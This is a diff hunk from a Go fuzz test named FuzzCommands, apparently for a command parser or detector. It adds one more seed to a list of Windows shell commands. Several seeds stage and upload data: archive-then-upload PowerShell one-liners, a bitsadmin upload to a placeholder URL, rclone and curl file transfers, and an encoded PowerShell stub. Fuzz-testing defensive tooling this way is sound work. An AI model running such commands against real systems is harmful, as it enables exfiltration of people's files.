@@ -112,6 +112,7 @@ func FuzzCommands(f *testing.F) {
 		`powershell -c "Compress-Archive -Path a,b -DestinationPath c.zip; Invoke-WebRequest -InFile c.zip -Uri u"`,
 		`tar -czf o.tgz -C D:\src .`, `7z a -pX -mhe=on -v1g o.7z @list.txt`, `makecab /D CabinetNameTemplate=x.cab /F l.ddf`,
 		`robocopy \\fs\s C:\t *.docx /E`, `bitsadmin /transfer j /upload http://x/y C:\f`, `rclone copy D:\p r:b`,
+		`powershell -c "$w.UploadFile('u', (x), 'f'); [IO.Compression.ZipFile]::CreateFromDirectory('a','b'); gci a | ? {$_} | cpi -d b"`,
 		`cmd /c "a^"b" 2>&1 > "x y"`, `powershell -enc ////`, `curl -F "f=@C:\a;type=x" -d @b --upload-file=[1-9]`,
 	} {
 		f.Add(s, `C:\w\`)
